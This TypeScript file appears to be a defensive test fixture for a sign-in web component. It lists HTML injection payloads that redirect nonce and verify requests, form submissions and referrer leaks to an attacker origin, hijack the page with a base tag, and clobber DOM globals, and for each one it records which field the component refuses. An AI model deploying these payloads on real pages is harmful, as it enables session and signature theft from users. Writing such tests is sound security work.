/** HTML injected into an honest page that has `<openkey-sign-in id="honest">` in `<form id="session">`. */
export type MarkupAttack = {
  readonly name: string
  /** Position of the injected markup: above the page's own scripts, right before its form, or at the end. */
  readonly place: 'top' | 'before' | 'after'
  /** @param attacker Origin of the attacker's server. */
  readonly html: (attacker: string) => string
  /** The refused field of an injected `<openkey-sign-in id="planted">`. */
  readonly planted?: string
  /** Result of the honest element: `signed in`, or the refused field. */
  readonly honest: string
  /** Element to press once the honest element has its value, and the field that is then refused. */
  readonly submit?: { readonly press: string; readonly refused: string }
}

const plant = (attributes: string) => `<openkey-sign-in id="planted" ${attributes}></openkey-sign-in>`
const file = (attributes: string) => `<script src="/openkey.js" ${attributes}></script>`

export const markupAttacks: readonly MarkupAttack[] = [
  {
    name: 'an element whose nonce comes from the attacker',
    place: 'after',
    html: (attacker) => plant(`nonce-url="${attacker}/nonce" verify-url="/siwe/verify"`),
    planted: 'nonce-url',
    honest: 'signed in',
  },
  {
    name: 'an element that posts what is signed to the attacker',
    place: 'before',
    html: (attacker) => plant(`nonce-url="/siwe/nonce" verify-url="${attacker}/verify"`),
    planted: 'verify-url',
    honest: 'signed in',
  },
  {
    name: 'an element that posts to a path of the page which redirects to the attacker',
    place: 'before',
    html: (attacker) => plant(`nonce-url="/siwe/nonce" verify-url="/redirect?to=${attacker}/verify"`),
    planted: 'verify-url after a review',
    honest: 'signed in',
  },
  {
    name: 'an element whose nonce comes over a redirect',
    place: 'before',
    html: (attacker) => plant(`nonce-url="/redirect?to=${attacker}/nonce"`),
    planted: 'nonce-url',
    honest: 'signed in',
  },
  {
    name: 'an element with a widget of the attacker',
    place: 'before',
    html: (attacker) => plant(`nonce-url="/siwe/nonce" widget="${attacker}/" app-name="Notes"`),
    planted: 'widget',
    honest: 'signed in',
  },
  {
    name: 'an element with a list of origins in attributes',
    place: 'before',
    html: (attacker) =>
      plant(`nonce-url="${attacker}/nonce" allow-origins="${attacker}" data-allow-origins="${attacker}"`),
    planted: 'nonce-url',
    honest: 'signed in',
  },
  {
    name: 'an element that submits itself to the attacker',
    place: 'after',
    html: (attacker) =>
      `<form method="post" action="${attacker}/form">${plant('name="siwe" nonce-url="/siwe/nonce" auto-submit')}</form>`,
    planted: 'action',
    honest: 'signed in',
  },
  {
    name: 'an element that submits itself into the URL of a page with a pixel of the attacker',
    place: 'after',
    html: (attacker) =>
      `<meta name="referrer" content="unsafe-url"><img src="${attacker}/pixel" alt="">
      <form>${plant('name="siwe" nonce-url="/siwe/nonce" auto-submit')}</form>`,
    planted: 'method',
    honest: 'signed in',
  },
  {
    name: 'a form that swallows the one of the page',
    place: 'before',
    html: (attacker) => `<form method="post" action="${attacker}/form">`,
    honest: 'action',
  },
  {
    name: 'such a form whose fields are named like its properties',
    place: 'before',
    html: (attacker) =>
      `<form method="post" action="${attacker}/form"><input type="hidden" name="action" value="/session">
      <input type="hidden" name="method" value="post">`,
    honest: 'action',
  },
  {
    name: 'fields named like properties of the form of the page, which goes on working',
    place: 'after',
    html: () => '<input type="hidden" form="session" name="action"><input type="hidden" form="session" name="method">',
    honest: 'signed in',
  },
  {
    name: 'a base that leads relative URLs to the attacker',
    place: 'top',
    html: (attacker) => `<base href="${attacker}/">`,
    honest: 'nonce-url',
  },
  {
    name: 'an image in the place of the base',
    place: 'top',
    html: () => '<img name="baseURI" alt=""><img name="location" alt="">',
    honest: 'signed in',
  },
  {
    name: 'a button that sends the form of the page to the attacker',
    place: 'after',
    html: (attacker) => `<button id="trap" form="session" formaction="${attacker}/form">Go on</button>`,
    honest: 'signed in',
    submit: { press: '#trap', refused: 'formaction' },
  },
  {
    name: 'such a button on a page whose document has a field named like a method',
    place: 'top',
    html: (attacker) =>
      `<img name="addEventListener" alt=""><button id="trap" form="session" formaction="${attacker}/form">Go on</button>`,
    honest: 'signed in',
    submit: { press: '#trap', refused: 'formaction' },
  },
  {
    name: 'a button that puts the form into the URL of a page with a pixel of the attacker',
    place: 'after',
    html: (attacker) =>
      `<meta name="referrer" content="unsafe-url"><img src="${attacker}/pixel" alt="">
      <button id="trap" form="session" formaction="" formmethod="get">Go on</button>`,
    honest: 'signed in',
    submit: { press: '#trap', refused: 'formmethod' },
  },
  {
    name: 'a second script element with another widget, after the own one',
    place: 'after',
    html: (attacker) => file(`data-widget="${attacker}/" data-app-name="Notes"`),
    honest: 'data-widget',
  },
  {
    name: 'a second script element with another widget, before the own one',
    place: 'top',
    html: (attacker) => file(`data-widget="${attacker}/" data-app-name="Notes"`),
    honest: 'data-widget',
  },
  {
    name: 'a second script element with a list of origins',
    place: 'top',
    html: (attacker) =>
      `${file(`data-allow-origins="${attacker}" data-allow-origin="${attacker}"`)}
      ${plant(`nonce-url="${attacker}/nonce"`)}`,
    planted: 'nonce-url',
    // The first script element configured it, without a widget.
    honest: 'data-widget',
  },
  {
    name: 'elements in the place of the global, with a list of origins',
    place: 'top',
    html: (attacker) =>
      `<form id="OpenKey"><input name="allowOrigins" value="${attacker}"><input name="version" value="9">
      <input name="q"></form><a id="OpenKey" href="${attacker}"></a>${plant(`nonce-url="${attacker}/nonce"`)}`,
    planted: 'nonce-url',
    honest: 'signed in',
  },
  {
    name: 'a frame in the place of the global',
    place: 'top',
    html: (attacker) => `<iframe name="OpenKey" title="" srcdoc=""></iframe>${plant(`nonce-url="${attacker}/nonce"`)}`,
    planted: 'nonce-url',
    honest: 'signed in',
  },
  {
    name: 'an image in the place of the current script',
    place: 'top',
    html: () => '<img name="currentScript" alt=""><img name="querySelectorAll" alt="">',
    honest: 'signed in',
  },
]
